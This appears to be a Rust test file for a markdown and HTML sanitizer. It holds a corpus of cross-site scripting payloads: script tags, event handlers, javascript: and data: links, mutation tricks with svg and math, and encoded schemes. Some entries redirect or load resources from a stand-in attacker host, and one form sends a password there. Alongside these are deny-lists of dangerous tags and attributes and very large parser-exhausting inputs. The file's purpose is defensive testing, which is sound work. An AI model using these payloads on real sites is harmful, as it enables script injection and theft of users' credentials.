//! What attackers type: nothing of it acts, nothing of it stops the program.

use crate::html::{clean, excerpt, paragraphs, seal, text};
use crate::{language, markdown, typography, words};
use proptest::prelude::*;

/// Payloads of the well-known lists, and the tricks that sanitizers have fallen for.
const CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src='/files/a' onload=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java\0script:alert(1)\">x</a>",
    "<a href=\"java\u{202e}script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;script&colon;alert(1)\">x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1) src=javascript:alert(1)></video>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example'</style><p style='background:url(//evil.example)'>x",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title></title><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x xmlns:x='http://www.w3.org/1999/xhtml' x:onload='alert(1)'>",
    "<<script>alert(1)//<</script>",
    "<a title=\"</a><img src=x onerror=alert(1)>\" href=/>x</a>",
    "<p id=location name=document class=admin>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]( \u{1}javascript:alert(1))",
    "[x](java&#x202e;script:alert(1))",
    "![x](javascript:alert(1))",
    "![x](/files/a\"onerror=alert(1))",
    "![\"onerror=alert(1) x=\"](/files/a)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "[x](/a \"\" onmouseover=alert(1) \"\")",
    "```\"><script>alert(1)</script>\nx\n```",
    "``` x\" onload=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "@<script> #<script> :<script>:",
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "[caption]<script>alert(1)</script>[/caption][x y=\"<script>\"]",
];

/// What no output may hold once its text is out of the way: the tags are all we look at.
fn assert_inert(html: &str, source: &str) {
    for token in crate::html::scan::tokens(html) {
        let raw = match token {
            crate::html::scan::Token::Text(_) | crate::html::scan::Token::Close { .. } => continue,
            crate::html::scan::Token::Open { name, attributes, raw } => {
                assert!(
                    crate::html::scan::attribute(attributes, "src").is_none_or(|src| src.starts_with("/files/")),
                    "{source}: {html}"
                );
                assert!(crate::html::scan::attribute(attributes, "id").is_none(), "{source}: {html}");
                for bad in
                    ["script", "style", "svg", "math", "iframe", "object", "form", "input", "base", "link", "meta"]
                {
                    assert_ne!(name, bad, "{source}: {html}");
                }
                // Values may speak of anything; names of attributes and schemes of links may not.
                for attribute in
                    ["onerror", "onload", "onmouseover", "ontoggle", "style", "srcdoc", "formaction", "xlink:href"]
                {
                    assert!(crate::html::scan::attribute(attributes, attribute).is_none(), "{source}: {html}");
                }
                let href = crate::html::scan::attribute(attributes, "href").unwrap_or_default();
                assert!(crate::html::may_lead_to(&href), "{source}: {html}");
                raw
            }
            other => panic!("{source}: {other:?} in {html}"),
        };
        assert!(!raw.contains('\0'), "{source}");
    }
    assert!(
        !html.chars().any(|c| matches!(c, '\0' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')),
        "{source}: {html}"
    );
    assert_eq!(seal(html), html, "{source}");
}

/// A directory whose names attack too.
struct Everyone;

impl markdown::Resolve for Everyone {
    fn mention(&self, handle: &str) -> Option<markdown::Mention> {
        let href = if handle.len() > 4 { "/people/1\" onload=\"" } else { "javascript:alert(1)" };
        Some(markdown::Mention { name: "</a><script>\"\u{202E}".to_owned(), href: href.to_owned() })
    }
    fn topic(&self, slug: &str) -> Option<String> {
        Some(format!("/topics/{slug}"))
    }
}

fn everything(source: &str) {
    assert_inert(&markdown::render(source, &()).html, source);
    assert_inert(&markdown::render(source, &Everyone).html, source);
    let cleaned = clean(source, &());
    assert_inert(&cleaned.html, source);
    assert_inert(&clean(&paragraphs(source), &()).html, source);
    assert_inert(&clean(&typography::french_html(&cleaned.html), &()).html, source);
    assert_eq!(clean(&cleaned.html, &()).html, cleaned.html, "{source}");
    text(source);
    excerpt(source, 40);
    words::terms(source, None);
    words::highlight(source, source);
    words::slug(source, source);
    words::initials(source);
    language(source);
    typography::french(source);
}

#[test]
fn the_corpus_is_inert() {
    for source in CORPUS {
        everything(source);
        everything(&format!("texte {source} texte"));
        everything(&format!("> - {source}\n\n<p>{source}"));
    }
}

#[test]
fn overrides_do_not_turn_the_page_round() {
    let shown = markdown::render("a \u{202E}cod.exe &#x202E;b \u{2066}c", &()).html;
    assert_eq!(shown, "<p>a cod.exe b c</p>\n");
}

/// Parsers explode by the square, which a debug build shows on less.
const SIZE: usize = if cfg!(debug_assertions) { 60_000 } else { 5_000_000 };

/// Five million characters of what makes parsers explode; the clock of the test runner is the judge.
#[test]
fn deep_texts_are_bounded() {
    for pattern in ["[", ">", "*"] {
        let rendered = markdown::render(&pattern.repeat(5_000_000), &());
        assert_inert(&rendered.html, pattern);
    }
}

#[test]
fn enormous_texts_are_bounded() {
    let patterns = [
        "[",
        ">",
        "*",
        "> ",
        "* ",
        "- ",
        "1. ",
        "*a_ ",
        "**a *",
        "_*",
        "![",
        "[]",
        "[a](",
        "![a](",
        "[^a]",
        "`",
        "` `` ",
        "~",
        "<",
        "</",
        "<!--",
        "<a ",
        "<b><p>",
        "<b x=\"",
        "<div>",
        "<p>",
        "<table><tr><td>",
        "</p>",
        "&",
        "&amp",
        "@",
        "@a",
        "#a",
        ":a",
        "www.",
        "http://a",
        "a@b.",
        "|",
        "|a\n|-\n",
        "\\",
        "\"",
        "> a\n",
        ">\n",
        "- a\n  ",
        " \n",
        "[a]: b\n",
        "[caption]",
        "[x y=\"",
        "«",
        "'",
        "a'",
        "é\u{301}",
        "👩\u{200D}",
        "\u{202E}",
    ];
    for pattern in patterns {
        let source = pattern.repeat(SIZE / pattern.len());
        let rendered = markdown::render(&source, &());
        let most = 40 * markdown::MAX_SOURCE;
        assert!(rendered.html.len() < most, "{pattern}: {}", rendered.html.len());
    }
}

#[test]
fn enormous_articles_are_bounded() {
    for pattern in [
        "<",
        "<b>",
        "<b x=1>",
        "<b><p>",
        "<div>",
        "<p>",
        "<a href=/>",
        "<a><p>",
        "<table><tr><td>",
        "<ul><li>",
        "</b>",
        "<b><div></b>",
        "<svg>",
        "<!--",
        "<script>",
        "&eacute;",
        "[caption]",
        "[caption]a[/caption]",
        "<pre>",
        "<i><p></i>",
        "<figure><img src=/files/a>",
        "«",
        "\n\n",
        "<li>\n\n",
    ] {
        let source = pattern.repeat(SIZE / pattern.len());
        let cleaned = clean(&paragraphs(&source), &());
        assert!(cleaned.html.len() < 40 * SIZE, "{pattern}");
        typography::french_html(&source);
        text(&source);
        words::terms(&source, None);
    }
}

/// Pieces that mean something to one of the parsers, a `¦` between them.
const PIECES: &str = concat!(
    "<b>¦</b>¦<i>¦</i>¦<p>¦</p>¦<a href=/x>¦</a>¦<ul>¦<li>¦</ul>¦<table>¦<tr>¦<td>¦</td>¦</table>¦<pre>¦",
    "</pre>¦<h2>¦</h2>¦<div>¦</div>¦<img src=/files/a>¦<br>¦<hr>¦<code>¦</code>¦<dl>¦<dt>¦<dd>¦<details>¦",
    "<summary>¦<figure>¦<figcaption>¦</figure>¦<caption>¦<thead>¦<svg>¦</svg>¦<!--¦-->¦<blockquote>¦",
    "</blockquote>¦[caption]¦[/caption]¦*¦**¦_¦`¦```¦\n¦\n\n¦> ¦- ¦1. ¦# ¦[¦]¦(¦)¦![¦|¦|-|-|\n¦~~¦@cesar¦",
    "#sujet¦:tada:¦https://a.example/b¦&amp;¦&lt;¦&#x202e;¦a¦é¦ ¦\t¦    ¦'¦\"¦«¦»¦?¦:¦\0¦\u{202e}¦[^1]¦",
    "[^1]: ¦- [x] ¦\\¦<¦>¦=¦---\n"
);

fn salad() -> impl Strategy<Value = String> {
    let piece = prop::sample::select(PIECES.split('¦').collect::<Vec<_>>());
    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1_500))]

    #[test]
    fn no_salad_acts_or_panics(source in salad()) {
        everything(&source);
    }

    #[test]
    fn no_text_acts_or_panics(source in "\\PC{0,80}") {
        everything(&source);
    }
}
